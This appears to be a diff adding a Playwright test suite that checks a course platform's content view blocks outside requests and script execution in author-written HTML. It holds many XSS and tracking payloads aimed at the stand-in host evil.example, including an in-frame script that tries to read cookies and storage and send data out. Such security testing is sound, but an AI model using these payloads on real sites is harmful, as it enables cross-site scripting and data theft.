@@ -1,0 +1,263 @@
+import { expect, test, type Page } from '@playwright/test';
+import { idOf } from '../../demo/platform/seed/id';
+import { hosts } from './hosts';
+import { complaints, signIn } from './people';
+
+const content = `/learn/courses/${idOf('course', 'GEO-145')}/view/content`;
+const EVIL = 'https://evil.example';
+/** The call for what a part holds. */
+const CONTENT = /\/activity\/[^/]+\/content$/;
+
+/** Answers the content of every part with a text, and the settings with what is given; the rest is the platform's own. */
+async function write(page: Page, html: string, settings: Record<string, unknown> = {}) {
+  await page.route(CONTENT, async (route) => {
+    const answer = await route.fetch();
+    await route.fulfill({ json: { ...((await answer.json()) as object), html } });
+  });
+  await page.route('**/settings/query*', async (route) => {
+    const answer = await route.fetch();
+    const { data } = (await answer.json()) as { data: object };
+    await route.fulfill({ json: { data: { ...data, ...settings } } });
+  });
+}
+
+/** Requests that leave the browser for anywhere but the demo itself; they end here. What a policy refuses never comes so far. */
+async function foreign(page: Page): Promise<string[]> {
+  const asked: string[] = [];
+  const isOwn = (url: string) => Object.values(hosts).some((host) => url.startsWith(`${host}/`));
+  await page.context().route(
+    (url) => /^https?:$/.test(url.protocol) && !isOwn(url.href),
+    (route) => {
+      asked.push(route.request().url());
+      return route.abort();
+    },
+  );
+  return asked;
+}
+
+/** What authors may write to make a reader's browser call elsewhere. */
+const tracking = [
+  `<img src="${EVIL}/1.png">`,
+  `<img src="//evil.example/2.png" srcset="${EVIL}/3.png 1x, ${EVIL}/4.png 2x">`,
+  `<picture><source srcset="${EVIL}/5.webp"><img src="${EVIL}/6.png"></picture>`,
+  `<video src="${EVIL}/7.mp4" poster="${EVIL}/8.png" autoplay></video><audio src="${EVIL}/9.mp3" autoplay></audio>`,
+  `<video autoplay muted><source src="${EVIL}/10.mp4"><track default src="${EVIL}/11.vtt"></video>`,
+  `<table background="${EVIL}/12.png"><tr><td background="${EVIL}/13.png">x</td></tr></table>`,
+  `<p style="background:url(${EVIL}/14.png);list-style-image:url('${EVIL}/15.png')">x</p>`,
+  `<p style="background-image:image-set('${EVIL}/16.png' 1x);cursor:url(${EVIL}/17.cur),auto;color:red">x</p>`,
+  `<style>@import "${EVIL}/18.css"; @font-face{font-family:f;src:url(${EVIL}/19.woff)} *{font-family:f;background:url(${EVIL}/20.png)}</style>`,
+  `<link rel=stylesheet href="${EVIL}/21.css"><link rel=preload as=image href="${EVIL}/22.png"><link rel=prefetch href="${EVIL}/23">`,
+  `<link rel=icon href="${EVIL}/24.png"><link rel=preload as=image imagesrcset="${EVIL}/25.png 1x">`,
+  `<link rel=modulepreload href="${EVIL}/26.js"><link rel=dns-prefetch href="${EVIL}"><link rel=preconnect href="${EVIL}">`,
+  `<meta http-equiv=refresh content="0;url=${EVIL}/27"><base href="${EVIL}/">`,
+  `<img src="28.png">`,
+  `<svg><image href="${EVIL}/29.png"/><image xlink:href="${EVIL}/30.png"/><use href="${EVIL}/31.svg#x"/></svg>`,
+  `<svg><filter id=f><feImage href="${EVIL}/32.png"/></filter><rect width=9 height=9 filter="url(${EVIL}/33.svg#f)" fill="url(${EVIL}/34.svg#g)" cursor="url(${EVIL}/35.cur)"/></svg>`,
+  `<svg><style>@import url(${EVIL}/36.css);</style><foreignObject><img src="${EVIL}/37.png"></foreignObject></svg>`,
+  `<svg><animate attributeName=href to="${EVIL}/38.png"/><set attributeName=href to="${EVIL}/39.png"/></svg>`,
+  `<iframe src="${EVIL}/40"></iframe><iframe srcdoc="<img src='${EVIL}/41.png'>"></iframe>`,
+  `<object data="${EVIL}/43"></object><embed src="${EVIL}/44">`,
+  `<form action="${EVIL}/45"><input type=image src="${EVIL}/46.png"><button>x</button></form>`,
+  `<input type=image src="${EVIL}/47.png" autofocus onfocus="fetch('${EVIL}/48')">`,
+  `<a ping="${EVIL}/49" href="#x" id=x>x</a><img longdesc="${EVIL}/50" lowsrc="${EVIL}/51.png" dynsrc="${EVIL}/52.avi">`,
+  `<body background="${EVIL}/53.png"><bgsound src="${EVIL}/54.mp3"><applet code="${EVIL}/55.class"></applet>`,
+  `<math><mi xlink:href="${EVIL}/56" href="javascript:fetch('${EVIL}/57')">x</mi></math>`,
+  `<scr<style></style>ipt>fetch('${EVIL}/61')</scr<style></style>ipt><p style =\n"background:url(${EVIL}/62.png)" style='x'>x</p>`,
+  `<p>\\(\\includegraphics{${EVIL}/63.png} \\href{${EVIL}/64}{x} \\htmlStyle{background:url(${EVIL}/65.png)}{x}\\)</p>`,
+  `<div class="gallery"><img src="${EVIL}/66.png"><img src="${EVIL}/67.png"></div><span class="math">\\url{${EVIL}/68}</span>`,
+];
+
+/** The same, in markup that swallows all that comes after it. */
+const swallowing = [
+  `<noscript><p title="</noscript><img src='${EVIL}/59.png'>"></noscript><template><img src="${EVIL}/60.png"></template>`,
+  `<frameset><frame src="${EVIL}/42"></frameset>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src='${EVIL}/58.png' onerror=alert(1)&gt;">`,
+];
+
+/** What would run, or take the page over. */
+const running = [
+  `<script>window.pwned = 1; fetch('${EVIL}/s1')</script><script src="${EVIL}/s2.js"></script><script type=module>import '${EVIL}/s3.js'</script>`,
+  `<img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg><details open ontoggle="window.pwned = 1"></details>`,
+  `<a href="javascript:window.pwned = 1" id=go>x</a><a href="java&#10;script:window.pwned = 1">x</a>`,
+  `<iframe src="javascript:parent.pwned = 1"></iframe><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>`,
+  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/s4"]}]}</script>`,
+];
+const START = '<p>The beginning</p>';
+const END = '<p>The end</p>';
+
+test('[RCV-08] nothing that an author writes reaches another origin or runs in the page, scripts being off', async ({
+  page,
+}) => {
+  await signIn(page, 'nora');
+  const heard = complaints(page);
+  const asked = await foreign(page);
+  await write(page, [...tracking, ...running].join('\n') + END, { 'LMS.MediaBlock.AllowScripts': false });
+  await page.goto(hosts.learn + content);
+  await expect(page.getByText('The end')).toBeVisible();
+  await page.getByText('The end').scrollIntoViewIfNeeded();
+  await page.waitForLoadState('networkidle');
+  expect(asked).toEqual([]);
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+  await expect(
+    page.locator('.rich-content').locator('style, script, link, meta, base, form, object, embed'),
+  ).toHaveCount(0);
+  // The browser tells of handlers and bases as soon as they are parsed, in a document that nobody sees.
+  expect(heard.filter((text) => !/inline event handler|base URI/.test(text))).toEqual([]);
+  for (const html of swallowing) {
+    await page.unroute(CONTENT);
+    await write(page, `${START}${html}`);
+    await page.reload();
+    await expect(page.getByText('The beginning')).toBeVisible();
+    await page.waitForLoadState('networkidle');
+  }
+  expect(asked).toEqual([]);
+});
+
+test('[RCV-08] scripts being on, they run in a frame that reaches neither page, cookies nor storage, and calls nobody', async ({
+  page,
+}) => {
+  await signIn(page, 'nora');
+  const heard = complaints(page);
+  const asked = await foreign(page);
+  const script = `
+    const said = {};
+    const tried = (name, what) => { try { said[name] = String(what()); } catch (error) { said[name] = error.name; } };
+    tried('cookie', () => document.cookie);
+    tried('storage', () => localStorage.length);
+    tried('session', () => sessionStorage.length);
+    tried('database', () => indexedDB.open('x'));
+    tried('parent', () => parent.document.title);
+    tried('top', () => top.document.title);
+    tried('origin', () => self.origin);
+    tried('frame', () => frameElement);
+    tried('popup', () => window.open('${EVIL}/a1'));
+    tried('away', () => { top.location = '${EVIL}/a2'; });
+    tried('beacon', () => navigator.sendBeacon('${EVIL}/a3', 'x'));
+    fetch('${EVIL}/a4').catch(() => { said.fetch = 'refused'; tell(); });
+    fetch('/api/platform/v1/users/me', { credentials: 'include' }).catch(() => { said.own = 'refused'; tell(); });
+    new Image().src = '${EVIL}/a5.png';
+    try { new WebSocket('wss://evil.example/a6'); } catch {}
+    try { new EventSource('${EVIL}/a7'); } catch {}
+    try { new Worker('${EVIL}/a8.js'); } catch {}
+    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${EVIL}/a9.css' }));
+    document.head.append(Object.assign(document.createElement('script'), { src: '${EVIL}/a10.js' }));
+    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${EVIL}/a11' }));
+    document.body.append(Object.assign(document.createElement('iframe'), { src: '${EVIL}/a12' }));
+    parent.postMessage({ type: 'link', href: '${EVIL}/a14' }, '*');
+    top.postMessage({ protocol: 'learn-content-frame', version: 1 }, '*');
+    const tell = () => { document.getElementById('said').textContent = JSON.stringify(said); };
+    tell();`;
+  await write(
+    page,
+    `<style>#said { color: rgb(1, 2, 3); }</style><p id="said"></p><p>${tracking.join('')}</p><p id="loud" onclick="this.textContent = 'pressed'">press</p>${END}<script>${script}</script>`,
+    { 'LMS.MediaBlock.AllowScripts': true },
+  );
+  await page.goto(hosts.learn + content);
+  const inside = page.frameLocator('.active-content').frameLocator('iframe');
+  await expect(inside.getByText('The end')).toBeVisible();
+  await expect(inside.locator('#said')).toContainText('"own":"refused"');
+  await expect(inside.locator('#said')).toContainText('"fetch":"refused"');
+  await expect(inside.locator('#said')).toHaveCSS('color', 'rgb(1, 2, 3)');
+  expect(JSON.parse((await inside.locator('#said').textContent())!)).toMatchObject({
+    cookie: 'SecurityError',
+    storage: 'SecurityError',
+    session: 'SecurityError',
+    database: 'SecurityError',
+    parent: 'SecurityError',
+    top: 'SecurityError',
+    origin: 'null',
+    frame: 'null',
+    popup: 'null',
+    own: 'refused',
+    fetch: 'refused',
+  });
+  await inside.locator('#loud').click();
+  await expect(inside.locator('#loud')).toHaveText('pressed');
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+  expect(asked).toEqual([]);
+  expect(new URL(page.url()).origin).toBe(hosts.learn);
+  // What the frame's own policy refused is told by the frame; the page has nothing to complain of.
+  const own = heard.filter(
+    (text) => !/evil\.example|connect-src|Refused to connect|inline event handler|base URI/.test(text),
+  );
+  expect(own).toEqual([]);
+});
+
+test('[RCV-08] a frame that leads itself away gets nowhere', async ({ page }) => {
+  await signIn(page, 'nora');
+  const asked = await foreign(page);
+  await write(
+    page,
+    `<p>Here</p><form action="${EVIL}/form" method="post"></form><script>setInterval(() => { location = '${EVIL}/?secret'; document.forms[0].setAttribute('action', '${EVIL}/form'); document.forms[0].submit(); }, 50)</script>`,
+    {
+      'LMS.MediaBlock.AllowScripts': true,
+    },
+  );
+  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-src'));
+  await page.goto(hosts.learn + content);
+  await refused;
+  expect(asked).toEqual([]);
+});
+
+test('[RCV-08] the author’s styles and scripts work, in a frame as high as its content, in the looks of the page', async ({
+  page,
+}) => {
+  await page.emulateMedia({ colorScheme: 'dark' });
+  await signIn(page, 'nora');
+  const heard = complaints(page);
+  await page.goto(hosts.learn + content);
+  await page.getByRole('link', { name: /How much fits on the sheet/ }).click();
+  const frame = page.locator('.active-content');
+  const inside = page.frameLocator('.active-content').frameLocator('iframe');
+  await expect(inside.locator('#meaning')).toHaveText('1 : 25,000');
+  await inside.getByRole('slider').press('ArrowRight');
+  await expect(inside.locator('#meaning')).toHaveText('1 : 50,000');
+  const high = await inside.locator('html').evaluate((page) => page.getBoundingClientRect().height);
+  await expect.poll(async () => Math.abs((await frame.boundingBox())!.height - high)).toBeLessThan(2);
+  expect(high).toBeGreaterThan(500);
+  await expect(inside.locator('body')).toHaveCSS('color', 'rgb(238, 238, 236)');
+  expect(heard).toEqual([]);
+});
+
+test('[RCV-08] there is no frame to open where scripts are off', async ({ page, request }) => {
+  await signIn(page, 'nora');
+  const answer = await request.get(`${hosts.learn}/api/lms/v1/content-frame`);
+  const policy = answer.headers()['content-security-policy'];
+  expect(policy).toContain('sandbox allow-scripts');
+  expect(policy).toContain("connect-src 'none'");
+  expect(policy).not.toContain('allow-same-origin');
+});
+
+test('[RCV-05] a copied link leads back to the heading', async ({ page, context }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await signIn(page, 'nora');
+  await page.goto(hosts.learn + content);
+  await page.getByRole('link', { name: /How far is it/ }).click();
+  await page.getByRole('button', { name: 'Copy a link to “What the computer does not know”' }).click();
+  await expect(page.getByText('The link was copied')).toBeVisible();
+  const link = await page.evaluate(() => navigator.clipboard.readText());
+  expect(link).toMatch(/\/view\/content\/[^#]+#what-the-computer-does-not-know$/);
+  await page.goto('about:blank');
+  await page.goto(link);
+  const heading = page.getByRole('heading', { name: 'What the computer does not know' });
+  await expect(heading).toBeFocused();
+  await expect(heading).toBeInViewport();
+});
+
+test('[RCV-04] films come when they are near, in the learner’s language, and no other host is asked', async ({
+  page,
+}) => {
+  await signIn(page, 'nora');
+  const asked = await foreign(page);
+  await page.goto(hosts.learn + content);
+  await page.getByRole('link', { name: /The round made flat/ }).click();
+  await expect(page.getByText('Why all world maps are wrong')).toBeAttached();
+  expect(asked).toEqual([]);
+  await page.getByText('Why all world maps are wrong').scrollIntoViewIfNeeded();
+  await expect
+    .poll(() => asked)
+    .toContain('https://www.youtube-nocookie.com/embed/kIID5FDi2JQ?hl=en&cc_lang_pref=en&start=12');
+  await page.getByText('This page can’t be shown here.').scrollIntoViewIfNeeded();
+  await expect.poll(() => asked).toContain('https://player.vimeo.com/video/1084537?texttrack=en');
+  expect(asked.filter((url) => url.includes('maps.example'))).toEqual([]);
+});
